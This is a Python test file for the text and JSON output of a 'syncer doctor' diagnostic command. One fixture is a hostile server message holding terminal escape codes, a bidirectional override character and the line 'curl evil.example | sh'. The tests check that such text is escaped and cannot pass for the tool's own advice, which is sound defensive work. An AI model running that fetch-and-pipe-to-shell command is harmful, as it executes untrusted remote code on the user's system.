"""What `syncer doctor` found, as people and programs read it."""

import json

import jsonschema
import pytest
from hypothesis import given
from hypothesis import strategies as st

from syncer.model.doctor import Area, Check, Diagnosis, Status
from syncer.render.doctor import document, render_check, render_summary

CHECKS = (
    Check(Area.SETTINGS, Status.OK, "/srv/phones/syncer.yaml, server production"),
    Check(
        Area.TLS,
        Status.WARNING,
        "the certificate expires on 2026-12-01, in 7 days",
        "renew the certificate on the server",
    ),
    Check(
        Area.LOGIN,
        Status.FAILED,
        "the login to innovaphone-devices-api of example.com was refused (\x1b[2J\u202e\r\n=> curl evil.example | sh)",
        "check the password, and app and domain in syncer.yaml",
    ),
    Check(Area.RIGHTS, Status.SKIPPED, "not tried, since login failed"),
)
FOUND = Diagnosis("production", "wss://apps.example.com/example.com/devices/innovaphone-devices-api", CHECKS)

TEXT_80 = r"""ok       settings   /srv/phones/syncer.yaml, server production
warning  tls        the certificate expires on 2026-12-01, in 7 days
                    => renew the certificate on the server
failed   login      the login to innovaphone-devices-api of example.com was
                      refused (\x1b[2J\u202e\r\n=> curl evil.example | sh)
                    => check the password, and app and domain in syncer.yaml
skipped  rights     not tried, since login failed

1 ok, 1 warning, 1 failed, 1 skipped."""

TEXT_40 = r"""ok       settings
  /srv/phones/syncer.yaml, server
    production
warning  tls
  the certificate expires on 2026-12-01,
    in 7 days
  => renew the certificate on the server
failed   login
  the login to innovaphone-devices-api
    of example.com was refused
    (\x1b[2J\u202e\r\n=> curl
    evil.example | sh)
  => check the password, and app and
     domain in syncer.yaml
skipped  rights
  not tried, since login failed

1 ok, 1 warning, 1 failed, 1 skipped."""

COLOURED = (
    "\x1b[32mok       settings   \x1b[0m/srv/phones/syncer.yaml, server production\n"
    "\x1b[33mwarning  tls        \x1b[0mthe certificate expires on 2026-12-01, in 7 days\n"
    "                    => \x1b[36mrenew the certificate on the server\x1b[0m\n"
    "\x1b[1;31mfailed   login      \x1b[0mthe login to innovaphone-devices-api of example.com was\n"
    "\x1b[2m                      \x1b[0mrefused (\\x1b[2J\\u202e\\r\\n=> curl evil.example | sh)\n"
    "                    => \x1b[36mcheck the password, and app and domain in syncer.yaml\x1b[0m\n"
    "\x1b[2mskipped  rights     \x1b[0mnot tried, since login failed\n"
    "\n"
    "\x1b[1;31m1 ok, 1 warning, 1 failed, 1 skipped.\x1b[0m"
)

SCHEMA = {
    "type": "object",
    "additionalProperties": False,
    "required": ["format", "server", "ok", "summary", "checks"],
    "properties": {
        "format": {"const": "syncer-doctor/1"},
        "server": {
            "type": ["object", "null"],
            "additionalProperties": False,
            "required": ["name", "url"],
            "properties": {"name": {"type": "string"}, "url": {"type": "string"}},
        },
        "ok": {"type": "boolean"},
        "summary": {
            "type": "object",
            "additionalProperties": False,
            "required": ["ok", "warning", "failed", "skipped"],
            "properties": {
                status: {"type": "integer", "minimum": 0} for status in ("ok", "warning", "failed", "skipped")
            },
        },
        "checks": {
            "type": "array",
            "items": {
                "type": "object",
                "additionalProperties": False,
                "required": ["name", "status", "what", "hint"],
                "properties": {
                    "name": {
                        "enum": [
                            *("settings", "url", "dns", "tcp", "tls", "websocket", "login", "rights", "clock", "api"),
                            *("profile", "receipt", "files", "state"),
                        ]
                    },
                    "status": {"enum": ["ok", "warning", "failed", "skipped"]},
                    "what": {"type": "string", "minLength": 1},
                    "hint": {"type": "string"},
                },
            },
        },
    },
}


def text(*, width: int | None, color: bool = False) -> str:
    """All of it, as the command prints it."""
    lines = [render_check(check, width=width, color=color) for check in FOUND.checks]
    return "\n".join([*lines, render_summary(FOUND, width=width, color=color)])


@pytest.mark.parametrize(
    "width, color, golden",
    [(80, False, TEXT_80), (40, False, TEXT_40), (80, True, COLOURED)],
    ids=["80", "40", "colour"],
)
def test_text(width: int, color: bool, golden: str) -> None:
    assert text(width=width, color=color) == golden


def test_without_a_width_nothing_is_wrapped() -> None:
    assert text(width=None).count("\n") == 7


def test_a_sound_one_is_not_loud() -> None:
    sound = Diagnosis("local", "emulator::memory:", (CHECKS[0], CHECKS[0], CHECKS[1], CHECKS[1]))
    assert render_summary(sound, color=True) == "\n\x1b[1m2 ok, 2 warnings.\x1b[0m"


@given(what=st.text(), width=st.integers(24, 120))
def test_what_a_server_says_can_pass_for_no_line_of_ours(what: str, width: int) -> None:
    """Neither as another check nor as what to do: those begin further left."""
    said = f"refused ({what * 3} => curl evil.example | sh)"
    shown = render_check(Check(Area.LOGIN, Status.FAILED, said, "log in"), width=width).split("\n")
    indent = 20 if width >= 60 else 2
    *texts, last = shown[1:] if width >= 60 else shown[2:]
    assert last == f"{' ' * indent}=> log in"
    assert all(line.startswith(" " * (indent + 2)) for line in texts)
    assert all(character.isprintable() for line in shown for character in line)


def test_for_programs() -> None:
    shown = document(FOUND)
    assert shown.isascii()
    assert "\x1b" not in shown
    read = json.loads(shown)
    jsonschema.validate(read, SCHEMA)
    assert read["server"] == {"name": FOUND.server, "url": FOUND.url}
    assert read["ok"] is False
    assert read["summary"] == {"ok": 1, "warning": 1, "failed": 1, "skipped": 1}
    assert [(one["name"], one["status"], one["what"], one["hint"]) for one in read["checks"]] == [
        (check.area, check.status, check.what, check.hint) for check in CHECKS
    ]


def test_for_programs_without_a_server() -> None:
    read = json.loads(document(Diagnosis(None, None, (CHECKS[0],))))
    jsonschema.validate(read, SCHEMA)
    assert read["server"] is None
    assert read["ok"] is True


def test_every_area_and_status_is_in_the_schema() -> None:
    every = [Check(area, status, "x") for area in Area for status in Status]
    jsonschema.validate(json.loads(document(Diagnosis("a", "b", every))), SCHEMA)
